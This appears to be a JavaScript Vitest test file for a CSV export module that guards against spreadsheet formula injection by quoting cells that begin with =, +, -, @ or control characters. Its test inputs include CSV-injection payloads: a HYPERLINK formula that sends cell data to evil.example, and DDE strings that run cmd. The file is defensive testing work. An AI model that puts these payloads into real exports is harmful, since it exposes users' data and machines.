// Formula injection (OWASP "CSV Injection"): no cell the product writes may start a formula.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv, neutraliseCell } from '../../src/csv/safe-csv.js';

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`],
    ['+32 470 12 34 56', `'+32 470 12 34 56`],
    ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+2', `'\t=1+2`],
    ['\r=1+2', `'\r=1+2`],
    ['\n=1+2', `'\n=1+2`],
    ['  =1+2', `'  =1+2`],
    ['\u200b=1+2', `'\u200b=1+2`],
  ])('prefixes %j with a single quote', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });

  it.each(['boete.pdf', 'BR.33.L3.680287/2026', 'AC-1001', '1ABC123', "D'Hondt", '', "'=already quoted"])('leaves %j alone', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });
});

describe('formatCsv', () => {
  const rows = [
    { name: '=1+2";=1+2', ref: "=1+2'\" ;,=1+2", amount: 11600, none: null },
    { name: 'plain, with comma', ref: 'line\nbreak', amount: 0, none: null },
  ];
  const csv = formatCsv(['name', 'ref', 'amount', 'none'], rows);

  it('quotes every text cell and doubles its quotes, as OWASP shows', () => {
    const lines = csv.split('\n');
    expect(lines[1]).toBe(`"'=1+2"";=1+2","'=1+2'"" ;,=1+2",11600,`);
  });

  it('reads back as the same values, each dangerous one behind a quote', () => {
    const back = parse(csv, { columns: true }) as Record<string, string>[];
    expect(back.map((r) => r.name)).toEqual([`'=1+2";=1+2`, 'plain, with comma']);
    expect(back.map((r) => r.ref)).toEqual([`'=1+2'" ;,=1+2`, 'line\nbreak']);
    expect(back.map((r) => r.amount)).toEqual(['11600', '0']);
  });

  it('cannot be split into a formula cell by a Belgian spreadsheet splitting on ";"', () => {
    const back = parse(csv, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][];
    for (const cell of back.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });
});
